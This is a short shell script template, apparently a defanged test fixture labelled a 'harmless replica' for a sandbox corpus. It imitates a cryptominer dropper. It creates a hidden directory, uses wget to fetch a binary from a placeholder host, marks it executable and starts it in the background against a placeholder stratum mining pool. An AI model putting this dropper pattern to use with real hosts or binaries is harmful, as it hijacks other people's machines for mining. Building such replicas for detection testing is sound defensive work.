# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
dir=/var/tmp/.{{token}}
mkdir -p "$dir"
wget -q -T 1 -t 1 -O "$dir/{{miner}}" http://{{ip}}:{{port}}/{{path}}.bin 2>/dev/null
cp /bin/sh "$dir/{{miner}}"
chmod +x "$dir/{{miner}}"
nohup timeout 1 "$dir/{{miner}}" -c 'while :; do :; done' stratum+tcp://{{host}}:{{port}} -u {{token}} >/dev/null 2>&1 &
exit 0
